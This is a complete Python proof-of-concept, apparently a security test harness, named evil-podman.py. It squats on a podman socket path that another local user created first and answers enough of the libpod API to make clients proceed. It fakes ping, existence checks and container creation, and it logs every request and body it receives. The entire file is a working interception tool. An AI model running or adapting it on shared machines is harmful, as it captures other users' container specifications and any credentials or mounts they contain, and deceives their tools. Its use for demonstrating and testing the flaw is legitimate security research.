#!/usr/bin/env python3
# What another local user can serve at a podman socket path they made first: enough of the
# libpod API that a client goes on to create a container (/_ping with a version, "exists" for
# everything), and a record of every connection, request and body it receives in LOG.
# Usage: evil-podman.py SOCKET LOG. Serves until killed, or for at most 15 minutes.
import http.server, os, socketserver, sys, threading, time

sock_path, log_path = sys.argv[1], sys.argv[2]
lock = threading.Lock()

def record(text):
    with lock, open(log_path, "ab") as f:
        f.write(text if isinstance(text, bytes) else text.encode())
        f.write(b"\n")

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def setup(self):
        record("connection")
        super().setup()

    def answer(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        record("%s %s" % (self.command, self.path))
        if body:
            record(body)
        status, reply = 200, b"{}"
        if self.path.endswith("/_ping"):
            reply = b"OK"
        elif "/exists" in self.path:
            status, reply = 204, b""
        elif self.path.endswith("/containers/create"):
            status, reply = 201, b'{"Id":"evil","Warnings":[]}'
        self.send_response(status)
        self.send_header("Libpod-Api-Version", "4.3.1")
        self.send_header("Content-Length", str(len(reply)))
        self.end_headers()
        self.wfile.write(reply)

    do_GET = do_POST = do_DELETE = do_HEAD = answer

    def log_message(self, *args):
        pass

class Server(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True

    def get_request(self):
        request, _ = super().get_request()
        return request, ("evil", 0)

if os.path.exists(sock_path):
    os.unlink(sock_path)
server = Server(sock_path, Handler)
os.chmod(sock_path, 0o777)
threading.Thread(target=server.serve_forever, daemon=True).start()
print("ready", os.getpid(), flush=True)
time.sleep(900)
